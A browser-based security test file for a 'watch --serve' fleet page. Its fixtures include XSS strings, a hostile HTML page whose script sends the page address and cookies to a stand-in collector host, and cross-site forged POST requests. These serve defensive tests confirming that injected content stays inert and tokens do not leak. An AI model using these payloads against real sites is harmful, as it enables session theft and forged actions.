import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { mkdir, writeFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import { join } from 'node:path'
import t from 'tap'
import { BIN, makeFolder } from '../fixtures/command-line.js'
import { needsBrowser, openBrowser, openPage } from '../fixtures/browser.js'
import { makeRecords } from '../fixtures/histories.js'

const EVIL = 'a|b<img src=x onerror="window.stolen=1"></script><script>window.stolen=2</script>'
const TOKEN = 'a-token-of-24-characters'

/** What asks it, from a page of its own: another port of this machine is the same site. */
async function openCollector (t) {
  const asked = []
  const pages = new Map()
  const server = createServer((request, response) => {
    asked.push({ url: request.url, headers: request.headers })
    response.setHeader('Content-Type', 'text/html')
    response.end(pages.get(request.url) ?? '')
  }).listen(0)
  await once(server, 'listening')
  t.teardown(() => { server.closeAllConnections(); server.close() })
  const { port } = server.address()
  return { asked, pages, url: `http://127.0.0.1:${port}`, otherSite: `http://localhost:${port}` }
}

/** All that a page can do without being asked. */
const hostilePage = (away) => `<!doctype html><html><head>
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' 'unsafe-eval' data: blob:">
<meta http-equiv="refresh" content="0;url=${away}/refresh"><base href="${away}/base/">
<link rel="stylesheet" href="${away}/style.css"><link rel="prefetch" href="${away}/prefetch">
<script>window.stolen = 1; fetch('${away}/script?' + encodeURIComponent(location.href + document.cookie))</script></head>
<body onload="document.forms[0].submit()"><form action="${away}/form" method="post"><input name="a" value="b"></form>
<iframe src="${away}/frame" srcdoc="<script>parent.stolen = 2</script>"></iframe><img src="${away}/image">
<svg onload="window.stolen = 3"><image href="${away}/svg"/></svg><object data="${away}/object"></object><a ping="${away}/ping" href="${away}/link">a</a>
</body></html>`

/** A folder of somebody else, as it lies on a shared disk. */
async function makeHostileFolder (t, away) {
  const folder = await makeFolder(t)
  const [record] = await makeRecords({ rates: [20_000] })
  const hostile = JSON.parse(JSON.stringify({ ...record, startedAt: new Date().toISOString() }).replaceAll('node-http', JSON.stringify(EVIL).slice(1, -1)))
  hostile.plan.baselines[0].name = `b${EVIL}<meta http-equiv="refresh" content="0;url=${away}/named">`
  for (const trial of [...hostile.plan.trials, ...hostile.trials.map(({ trial }) => trial ?? {})]) {
    if (trial.baseline) trial.baseline = hostile.plan.baselines[0].name
  }
  await mkdir(join(folder, 'hostile', record.id), { recursive: true })
  await writeFile(join(folder, 'hostile', record.id, 'record.json'), JSON.stringify(hostile))
  await writeFile(join(folder, 'hostile', record.id, 'report.html'), hostilePage(away))
  await writeFile(join(folder, 'watch.token'), TOKEN)
  return { folder, record }
}

/** @returns {Promise<string>} the address that is printed, when the import is shown */
async function startWatch (t, folder) {
  const child = spawn(process.execPath, [BIN, 'watch', '--serve', '--token-file', 'watch.token', '--import', 'hostile'], {
    cwd: folder, env: { ...process.env, CI: '1', NO_COLOR: '1' }, stdio: ['ignore', 'pipe', 'pipe']
  })
  const ended = once(child, 'close')
  t.teardown(() => { child.kill(); return ended })
  let [stdout, stderr] = ['', '']
  return new Promise((resolve, reject) => {
    const look = () => { if (/token=\S+\n/.test(stdout) && / 1 run /.test(stderr)) resolve(/http:\S+/.exec(stdout)[0]) }
    child.stdout.on('data', (text) => { stdout += text; look() })
    child.stderr.on('data', (text) => { stderr += text; look() })
    child.once('close', () => reject(new Error(stderr)))
  })
}

t.test('the page of a fleet, with what a hostile folder has brought', needsBrowser(), async (t) => {
  const collector = await openCollector(t)
  const { folder, record } = await makeHostileFolder(t, collector.url)
  const url = await startWatch(t, folder)
  const { origin } = new URL(url)
  const browser = await openBrowser(t)
  const { page, faults, requests } = await openPage(t, browser, url)
  const context = page.context()
  const visited = async () => (await (await context.newCDPSession(page)).send('Page.getNavigationHistory')).entries.map(({ url }) => url)
  const readCookie = () => page.evaluate(() => document.cookie)

  t.test('the token is exchanged, and stands nowhere', async (t) => {
    t.equal(page.url(), `${origin}/`)
    t.same((await visited()).filter((address) => address.includes('token')), [], 'not in its history')
    t.notMatch(await page.content(), TOKEN)
    t.equal(await readCookie(), '')
    const [cookie, ...others] = await context.cookies()
    t.match(cookie, { name: `baseload-${new URL(url).port}`, httpOnly: true, sameSite: 'Strict', path: '/', domain: '127.0.0.1', expires: -1 })
    t.notMatch(cookie.value, TOKEN, 'it is not the token itself')
    t.same(others, [])
  })

  t.test('names are text, and a report is made from the record', async (t) => {
    t.ok((await page.locator('.rows a').allTextContents()).some((text) => text.includes('<img src=x')))
    await page.locator('.rows a').first().click()
    await page.waitForURL(`${origin}/run/1`)
    t.match(await page.title(), /baseload$/)
    t.match(await page.locator('main').textContent(), '<img src=x', 'the report of this run')
    t.equal(await page.locator('main img, iframe, form, object, base').count(), 0)
    t.equal(await readCookie(), '')
    await page.locator('figure .u-over').first().waitFor() // our own script runs
    await page.evaluate(() => { for (const details of document.querySelectorAll('details')) details.open = true })
    const [download] = await Promise.all([page.waitForEvent('download'), page.locator('[data-download=json]').click()])
    t.match(download.suggestedFilename(), `${record.id}.json`)
  })

  t.test('nobody else was asked, and nothing of theirs ran', async (t) => {
    t.equal(await page.evaluate(() => 'stolen' in window), false)
    t.same(collector.asked, [])
    t.same(requests.filter((address) => new URL(address).origin !== origin && !/^(?:data|blob):/.test(address)), [])
    t.same(requests.slice(1).filter((address) => address.includes('token')), [], 'only the address that was opened had it')
    t.same((await visited()).filter((address) => address.includes('token')), [])
    t.same(faults, [])
  })

  t.test('who is asked next learns no address', async (t) => {
    await page.evaluate((away) => { window.location.href = `${away}/next` }, collector.url)
    await page.waitForURL(`${collector.url}/next`)
    const { headers } = collector.asked.find(({ url }) => url === '/next')
    t.equal(headers.referer, undefined)
    t.notMatch(JSON.stringify(headers), TOKEN)
  })

  t.test('a page on another port of this machine, which is sent the cookie, steers nothing', async (t) => {
    const body = JSON.stringify({ ...record, id: 'forged' })
    collector.pages.set('/attack', `<iframe id="frame" src="${origin}/"></iframe><img id="image" src="${origin}/run/1">
<form id="form" action="${origin}/records" method="post" enctype="text/plain" target="frame"><input name="x" value="y"></form>`)
    await page.goto(`${collector.url}/attack`)
    const sent = []
    page.on('request', (request) => sent.push(`${request.method()} ${request.url()}`))
    const tried = await page.evaluate(async ({ origin, body }) => {
      const ask = (options) => fetch(`${origin}/records`, { method: 'POST', credentials: 'include', body, ...options }).then(({ type, status }) => `${type} ${status}`, () => 'refused')
      const image = document.createElement('img')
      const loaded = new Promise((resolve) => { image.onload = () => resolve('loaded'); image.onerror = () => resolve('refused') })
      image.src = `${origin}/?again`
      document.getElementById('form').submit()
      return [
        await ask({ headers: { 'content-type': 'application/json' } }),
        await ask({ mode: 'no-cors', headers: { 'content-type': 'text/plain' } }),
        await fetch(`${origin}/`, { credentials: 'include' }).then(({ status }) => status, () => 'refused'),
        await loaded
      ]
    }, { origin, body })
    t.same(tried, ['refused', 'refused', 'refused', 'refused'])
    t.ok(sent.filter((one) => one === `POST ${origin}/records`).length >= 2, 'they were sent, and refused')
    await page.goto(`${origin}/`)
    t.match(await page.locator('header').textContent(), /1 run/, 'no record was added')
  })

  t.test('a link on another site opens it too', async (t) => {
    collector.pages.set('/link', `<a href="${url}">open</a><a href="${origin}/run/1">run</a>`)
    const other = await browser.newContext()
    t.teardown(() => other.close())
    const fresh = await other.newPage()
    await fresh.goto(`${collector.otherSite}/link`)
    await fresh.locator('a').first().click()
    await fresh.waitForURL(`${origin}/`)
    await fresh.waitForFunction(() => document.title.startsWith('Fleet'))
    t.equal(fresh.url(), `${origin}/`)
    await fresh.goto(`${collector.otherSite}/link`)
    await fresh.locator('a').last().click()
    await fresh.waitForURL(`${origin}/run/1`)
    await fresh.locator('#setup-title').waitFor()
    t.equal(fresh.url(), `${origin}/run/1`)
    const stranger = await browser.newContext()
    t.teardown(() => stranger.close())
    const nobody = await stranger.newPage()
    await nobody.goto(`${collector.otherSite}/link`)
    await nobody.locator('a').last().click()
    await nobody.waitForFunction(() => /has a token/.test(document.body?.textContent ?? ''))
    t.equal(nobody.url(), `${origin}/run/1`, 'who has no cookie is asked once, and told')
  })
})
